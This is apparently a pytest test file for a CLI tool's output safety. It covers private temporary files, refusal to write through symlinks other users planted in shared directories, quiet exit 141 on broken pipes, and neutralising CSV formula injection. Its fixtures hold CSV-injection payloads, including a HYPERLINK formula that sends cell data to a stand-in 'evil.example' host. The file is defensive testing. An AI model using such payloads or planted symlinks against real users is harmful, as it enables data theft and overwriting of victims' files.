"""The command line's output is what the user expects, wherever it goes.

``--out`` files are private until complete, then get the mode the user
expects, and are never written through a symlink another user planted in a
shared directory. A pipe whose reader has gone (``| head``) ends the command
quietly with 141, as SIGPIPE would. A CSV cell a spreadsheet would run as a
formula is written inert, unless ``--csv-raw``.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from fathom_events._cli import main
from fathom_events._cli._output import replace_file
from fathom_events._cli._text import UsageError
from fathom_events.testing import FakeFathom
from tests.cli.test_cli import SYNC_FILE, TOKEN, Cli, Ran, subprocess_env
from tests.cli.test_cli_safety import _cli, _url, tmp_files  # noqa: F401 - the `cli` and `url` fixtures

EXIT_BROKEN_PIPE = 141  # 128 + SIGPIPE (13), as a shell reports `yes | head`
# Names a spreadsheet would run as a formula (OWASP's CSV injection list: =, +, -, @, tab,
# carriage return at the start), and what the CSV holds for each by default.
FORMULA_NAMES = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1": "'+1+1",
    "-5% off": "'-5% off",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
# Names that start no formula, kept as they are.
PLAIN_NAMES = ["Signed up", "a=b", "5-1", "'quoted", " =1+1"]


@pytest.fixture(name="fake")
def _fake() -> FakeFathom:
    fake = FakeFathom({TOKEN: ["*"]})
    fake.seed(2, 3)  # SITE1, SITE2
    return fake


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def run_into_a_closed_pipe(*args: str, stderr_too: bool = False, buffered: bool = True) -> Ran:
    """The real entry point, its stdout (and with ``stderr_too`` its stderr) a pipe no one reads.

    The reading end is closed before the command starts, so its first write
    fails, as the writes after `| head -1` has read its line do. ``buffered``:
    stdout is buffered, as by default (a buffer still full at exit is what
    Python's shutdown would complain about); otherwise as with PYTHONUNBUFFERED.
    """
    env = {k: v for k, v in subprocess_env().items() if k != "PYTHONUNBUFFERED"}
    if not buffered:
        env["PYTHONUNBUFFERED"] = "1"
    read, write = os.pipe()
    os.close(read)
    try:
        done = subprocess.run(  # noqa: S603 - our own entry point, with our arguments
            [sys.executable, "-m", "fathom_events", *args],
            stdout=write,
            stderr=write if stderr_too else subprocess.PIPE,
            text=True,
            timeout=60,
            env=env,
            check=False,
        )
    finally:
        os.close(write)
    return Ran(done.returncode, "", done.stderr or "")


def mode_of(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def assert_quiet_about_the_pipe(err: str) -> None:
    """Nothing on stderr says the pipe broke: no line of ours, no traceback, no 'ignored'."""
    assert "fathom-events:" not in err, err
    assert "Broken pipe" not in err, err
    assert "Traceback" not in err, err
    assert "Exception ignored" not in err, err


# -- --out files: private until complete ---------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes and umask")
@pytest.mark.parametrize(
    ("old_mode", "final_mode"), [(None, 0o640), (0o644, 0o644), (0o600, 0o600)]
)
def test_the_new_content_is_readable_by_its_owner_only_until_complete(
    tmp_path: Path, old_mode: int | None, final_mode: int
) -> None:
    """The temporary file is mode 600 from first byte to last; then the old (or umask's) mode."""
    out = tmp_path / "events.json"
    if old_mode is not None:
        out.write_text("old")
        out.chmod(old_mode)
    seen: list[int] = []

    def chunks() -> Iterator[bytes]:
        for chunk in (b"new ", b"content"):
            seen.extend(mode_of(path) for path in tmp_path.glob(".*.tmp"))
            yield chunk
        seen.extend(mode_of(path) for path in tmp_path.glob(".*.tmp"))  # every chunk written

    umask = os.umask(0o027)
    try:
        replace_file(out, chunks())
    finally:
        os.umask(umask)
    assert seen == [0o600, 0o600, 0o600]
    assert out.read_text() == "new content"
    assert mode_of(out) == final_mode
    assert tmp_files(tmp_path) == []


# -- --out through symlinks ---------------------------------------------------------------------

ANOTHER_UID = 4242  # a user who is not the one running the tests
NEEDS_ROOT = pytest.mark.skipif(
    sys.platform == "win32" or os.geteuid() != 0,
    reason="giving a symlink to another user (os.lchown) needs root",
)


def planted_link(directory: Path, mode: int, victim: Path, *, owner: int = ANOTHER_UID) -> Path:
    """A symlink to ``victim`` that ``owner`` left in ``directory`` (made with ``mode``)."""
    directory.mkdir(exist_ok=True)
    directory.chmod(mode)
    link = directory / "events.json"
    link.symlink_to(victim)
    if owner != os.geteuid():
        os.lchown(link, owner, owner)
    return link


@pytest.fixture(name="victim")
def _victim(tmp_path: Path) -> Path:
    """Another user's file, that a planted link points at."""
    home = tmp_path / "home"
    home.mkdir()
    victim = home / "notes.txt"
    victim.write_bytes(b"someone else's notes\n")
    return victim


@NEEDS_ROOT
@pytest.mark.parametrize("mode", [0o1777, 0o1775, 0o777], ids=["tmp", "sticky", "world-writable"])
@pytest.mark.parametrize("command", [["pull", "SITE1"], ["export", "SITE1", "--force"]])
def test_out_refuses_a_symlink_another_user_planted_in_a_shared_directory(
    cli: Cli, fake: FakeFathom, victim: Path, mode: int, command: list[str]
) -> None:
    """--out through another user's link in a sticky or world-writable dir: exit 2, nothing sent."""
    link = planted_link(victim.parent.parent / "shared", mode, victim)
    before = victim.stat()
    ran = cli(*command, "--out", str(link))
    assert ran.code == 2
    assert ran.err == (
        f"fathom-events: cannot write {link}: it is a symlink another user (uid {ANOTHER_UID})"
        f" owns in a directory others can write to ({link.parent}); give the path of the file"
        " itself if you mean it\n"
    )
    assert fake.requests == []
    assert victim.read_bytes() == b"someone else's notes\n"
    assert victim.stat().st_mtime_ns == before.st_mtime_ns
    assert link.is_symlink()
    assert tmp_files(victim.parent) + tmp_files(link.parent) == []


@NEEDS_ROOT
def test_out_refuses_a_chain_that_passes_through_a_planted_symlink(
    cli: Cli, fake: FakeFathom, tmp_path: Path, victim: Path
) -> None:
    """A link of the user's own that leads to a planted one is refused as well; nothing sent."""
    planted = planted_link(tmp_path / "shared", 0o1777, victim)
    mine = tmp_path / "mine.json"
    mine.symlink_to(planted)
    ran = cli("pull", "SITE1", "--out", str(mine))
    assert ran.code == 2
    assert f"cannot write {mine}: {planted} is a symlink another user" in ran.err
    assert fake.requests == []
    assert victim.read_bytes() == b"someone else's notes\n"


@NEEDS_ROOT
def test_a_symlink_planted_after_the_check_is_refused_when_writing(
    tmp_path: Path, victim: Path
) -> None:
    """replace_file checks the links itself: one planted while the pull ran is refused too."""
    link = planted_link(tmp_path / "shared", 0o1777, victim)
    with pytest.raises(UsageError, match="is a symlink another user"):
        replace_file(link, [b"pulled events"])
    assert victim.read_bytes() == b"someone else's notes\n"
    assert tmp_files(victim.parent) + tmp_files(link.parent) == []


@NEEDS_ROOT
def test_out_writes_through_another_users_symlink_in_a_private_directory(
    cli: Cli, tmp_path: Path, victim: Path
) -> None:
    """A link in a directory only its owner can write to is followed, as documented."""
    link = planted_link(tmp_path / "private", 0o755, victim)
    ran = cli("pull", "SITE1", "--out", str(link))
    assert ran.code == 0, ran.err
    assert list(json.loads(victim.read_text())["sites"]) == ["SITE1"]
    assert link.is_symlink()


@pytest.mark.skipif(sys.platform == "win32", reason="symlinks and the sticky bit are POSIX here")
def test_out_writes_through_the_users_own_symlink_in_a_shared_directory(
    cli: Cli, tmp_path: Path, victim: Path
) -> None:
    """The user's own link in /tmp-like directory is followed: the file replaced, the link kept."""
    link = planted_link(tmp_path / "shared", 0o1777, victim, owner=os.geteuid())
    ran = cli("pull", "SITE1", "--out", str(link))
    assert ran.code == 0, ran.err
    assert list(json.loads(victim.read_text())["sites"]) == ["SITE1"]
    assert link.is_symlink()
    assert tmp_files(victim.parent) + tmp_files(link.parent) == []


@pytest.mark.skipif(sys.platform == "win32", reason="symlinks are POSIX here")
def test_out_through_a_loop_of_symlinks_is_a_usage_error(
    cli: Cli, fake: FakeFathom, tmp_path: Path
) -> None:
    """--out on links that lead to each other: exit 2 before any request; the links stay."""
    first, second = tmp_path / "a.json", tmp_path / "b.json"
    first.symlink_to(second)
    second.symlink_to(first)
    ran = cli("pull", "SITE1", "--out", str(first))
    assert ran.code == 2
    assert ran.err == f"fathom-events: cannot write {first}: too many levels of symbolic links\n"
    assert fake.requests == []
    assert first.is_symlink()
    assert second.is_symlink()


# -- a closed stdout --------------------------------------------------------------------------


@pytest.mark.skipif(sys.platform == "win32", reason="SIGPIPE and its exit status are POSIX")
@pytest.mark.parametrize(
    "command",
    [
        ["list", "SITE1"],
        ["--json", "list", "SITE1"],
        ["get", "SITE1", "{event}"],
        ["pull", "SITE1", "SITE2"],
        ["pull", "SITE1", "--format", "csv"],
        ["pull", "SITE1", "--out", "/dev/stdout"],
        ["export", "SITE1"],
        ["sites"],
        ["token"],
        ["sync", "{file}", "--dry-run"],
        ["sync", "{file}"],
    ],
)
def test_a_closed_stdout_ends_the_command_quietly_with_141(
    fake: FakeFathom, url: str, tmp_path: Path, command: list[str]
) -> None:
    """Every command writing results into a pipe no one reads exits 141, saying nothing of it."""
    sync_file = tmp_path / "sync.toml"
    sync_file.write_text(SYNC_FILE)
    given = {"event": fake.events("SITE1")[0]["id"], "file": str(sync_file)}
    args = [part.format(**given) for part in command]
    ran = run_into_a_closed_pipe(*args, "--base-url", url, "--token", TOKEN)
    assert ran.code == EXIT_BROKEN_PIPE, ran.err
    assert_quiet_about_the_pipe(ran.err)


@pytest.mark.skipif(sys.platform == "win32", reason="SIGPIPE and its exit status are POSIX")
@pytest.mark.parametrize("buffered", [True, False])
@pytest.mark.parametrize("stderr_too", [False, True])
def test_a_closed_pipe_ends_the_command_with_141_buffered_or_not(
    url: str, stderr_too: bool, buffered: bool
) -> None:
    """Unbuffered (PYTHONUNBUFFERED) or not, `| head` or `2>&1 | head`: exit 141, nothing said."""
    ran = run_into_a_closed_pipe(
        "pull",
        "SITE1",
        "SITE2",
        "--base-url",
        url,
        "--token",
        TOKEN,
        stderr_too=stderr_too,
        buffered=buffered,
    )
    assert ran.code == EXIT_BROKEN_PIPE, ran.err
    assert_quiet_about_the_pipe(ran.err)


@pytest.mark.skipif(sys.platform == "win32", reason="a pipe's broken end is POSIX here")
def test_a_closed_stdout_is_pointed_at_devnull_before_exit(
    url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """In process: exit 141, nothing on stderr, and what stdout still holds goes to devnull."""
    read, write = os.pipe()
    os.close(read)
    # Buffered, so the line that met the closed pipe is still held when the command ends,
    # as sys.stdout holds it at Python's exit (which flushes it once more).
    stdout = io.TextIOWrapper(io.BufferedWriter(io.FileIO(write, "w")))
    monkeypatch.setattr(sys, "stdout", stdout)
    try:
        code = main(["list", "SITE1", "--base-url", url, "--token", TOKEN])
        assert code == EXIT_BROKEN_PIPE
        assert os.path.samestat(os.fstat(write), Path(os.devnull).stat())
        stdout.write("more\n")
        stdout.flush()  # what Python's exit does: it no longer fails
    finally:
        stdout.close()
    assert capsys.readouterr().err == ""


class _NoReaderStream(io.StringIO):
    """A stdout that is no file (a program's own stream) whose reader has gone."""

    def write(self, _text: str) -> int:
        raise BrokenPipeError(errno.EPIPE, os.strerror(errno.EPIPE))

    def flush(self) -> None:
        raise BrokenPipeError(errno.EPIPE, os.strerror(errno.EPIPE))


def test_a_closed_stdout_that_is_no_file_ends_quietly_with_141(
    url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A stdout with no file descriptor to point at devnull is left as it is: still 141, quiet."""
    monkeypatch.setattr(sys, "stdout", _NoReaderStream())
    assert main(["list", "SITE1", "--base-url", url, "--token", TOKEN]) == EXIT_BROKEN_PIPE
    assert capsys.readouterr().err == ""


# -- CSV a spreadsheet opens safely ------------------------------------------------------------


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(cli: Cli, fake: FakeFathom) -> None:
    """`pull` CSV: a name starting =, +, -, @, tab or CR gets a ' first; ids and dates are kept."""
    for name in [*FORMULA_NAMES, *PLAIN_NAMES]:
        fake.add_event("SITE2", name)
    ran = cli("pull", "SITE1", "SITE2", "--format", "csv")
    assert ran.code == 0, ran.err
    rows = csv_rows(ran.out)
    assert rows[0] == ["site_id", "id", "name", "currency", "created_at"]
    stored = [(site, event) for site in ("SITE1", "SITE2") for event in fake.events(site)]
    assert [row[:2] for row in rows[1:]] == [[site, event["id"]] for site, event in stored]
    assert [row[4] for row in rows[1:]] == [e["created_at"].isoformat() for _, e in stored]
    names = [row[2] for row in rows[1:]]
    assert names[:6] == [event["name"] for _, event in stored[:6]]  # seeded: kept as they are
    assert names[6:] == [*FORMULA_NAMES.values(), *PLAIN_NAMES]


def test_csv_raw_writes_every_cell_as_it_is(cli: Cli, fake: FakeFathom, tmp_path: Path) -> None:
    """`pull --csv-raw` writes names that look like formulas exactly as the API gave them."""
    for name in FORMULA_NAMES:
        fake.add_event("SITE2", name)
    out = tmp_path / "events.csv"
    ran = cli("pull", "SITE2", "--out", str(out), "--csv-raw")
    assert ran.code == 0, ran.err
    with out.open(newline="", encoding="utf-8") as file:
        names = [row[2] for row in csv.reader(file)][1:]
    assert names[3:] == list(FORMULA_NAMES)


def test_csv_ids_and_site_ids_that_would_run_are_made_inert_too(cli: Cli, fake: FakeFathom) -> None:
    """No real id starts a formula; one from a hostile server that would gets the ' too."""
    fake.add_event("+SITE", "Signed up", event_id="=1+1")
    fake.add_event("+SITE", "Paid", event_id="-2")
    ran = cli("pull", "+SITE", "--format", "csv")
    assert ran.code == 0, ran.err
    assert [row[:3] for row in csv_rows(ran.out)[1:]] == [
        ["'+SITE", "'=1+1", "Signed up"],
        ["'+SITE", "'-2", "Paid"],
    ]
    raw = cli("pull", "+SITE", "--format", "csv", "--csv-raw")
    assert [row[:2] for row in csv_rows(raw.out)[1:]] == [["+SITE", "=1+1"], ["+SITE", "-2"]]


def test_json_keeps_names_that_look_like_formulas(cli: Cli, fake: FakeFathom) -> None:
    """JSON is not for spreadsheets: every name is written exactly as the API gave it."""
    for name in FORMULA_NAMES:
        fake.add_event("SITE2", name)
    ran = cli("pull", "SITE2")
    assert ran.code == 0, ran.err
    names = [event["name"] for event in json.loads(ran.out)["sites"]["SITE2"]]
    assert names[3:] == list(FORMULA_NAMES)


@pytest.mark.parametrize(
    "args", [["--csv-raw"], ["--format", "json", "--csv-raw"], ["--out", "x.json", "--csv-raw"]]
)
def test_csv_raw_without_csv_is_a_usage_error(
    cli: Cli, fake: FakeFathom, tmp_path: Path, args: list[str]
) -> None:
    """`--csv-raw` for JSON output is a usage error (exit 2) before any request; nothing written."""
    given = [str(tmp_path / arg) if arg.endswith(".json") else arg for arg in args]
    ran = cli("pull", "SITE1", *given)
    assert ran.code == 2
    assert (
        ran.err
        == "fathom-events: pull: --csv-raw is for CSV output (--format csv, or --out FILE.csv)\n"
    )
    assert fake.requests == []
    assert list(tmp_path.iterdir()) == []


def test_pull_help_says_what_csv_raw_turns_off(capsys: pytest.CaptureFixture[str]) -> None:
    """`pull --help` says which cells get a ' and that --csv-raw writes them as they are."""
    assert main(["pull", "--help"]) == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "--csv-raw" in text
    assert "=, +, -, @, a tab or a carriage return" in text


@pytest.fixture(name="big_url")
def _big_url() -> Iterator[str]:
    """A fake whose two sites hold 3,000 events each: about 1 MB of pulled JSON."""
    fake = FakeFathom({TOKEN: ["*"]})
    fake.seed(2, 3000)
    with fake.serve_in_thread() as url:
        yield url


@pytest.mark.parametrize("buffered", [True, False], ids=["buffered", "unbuffered"])
@pytest.mark.parametrize("command", [["pull", "SITE1", "SITE2"], ["export", "SITE1", "SITE2"]])
def test_a_reader_that_leaves_mid_write_ends_the_command_with_141(
    big_url: str, command: list[str], *, buffered: bool
) -> None:
    """`pull | head -c 10`: the reader leaves after the first bytes; exit 141, nothing said."""
    env = {k: v for k, v in subprocess_env().items() if k != "PYTHONUNBUFFERED"}
    if not buffered:
        env["PYTHONUNBUFFERED"] = "1"
    with subprocess.Popen(  # noqa: S603 - our own entry point, with our arguments
        [sys.executable, "-m", "fathom_events", *command, "--base-url", big_url, "--token", TOKEN],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        first = process.stdout.read(10)
        process.stdout.close()  # as `head -c 10` does once it has its bytes
        err = process.stderr.read()
        process.wait(timeout=60)
    assert len(first) == 10
    assert process.returncode == 141, err
    assert b"pulled" not in err
    assert b"exported" not in err
    assert b"Broken pipe" not in err


@pytest.mark.skipif(not hasattr(os, "fchown"), reason="POSIX owners")
def test_a_replaced_file_keeps_its_group_when_its_owner_cannot_be_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not root: the owner cannot be given back, but the group is, so the old mode holds."""
    target = tmp_path / "events.json"
    target.write_text("old")
    calls: list[tuple[int, int]] = []
    real = os.fchown

    def fchown(descriptor: int, uid: int, gid: int) -> None:
        calls.append((uid, gid))
        if uid != -1:
            raise PermissionError(errno.EPERM, "only root may give a file away")
        real(descriptor, uid, gid)

    monkeypatch.setattr(os, "fchown", fchown)
    replace_file(target, [b"new"])
    old = target.stat()
    assert calls == [(old.st_uid, old.st_gid), (-1, old.st_gid)]
    assert target.read_text() == "new"
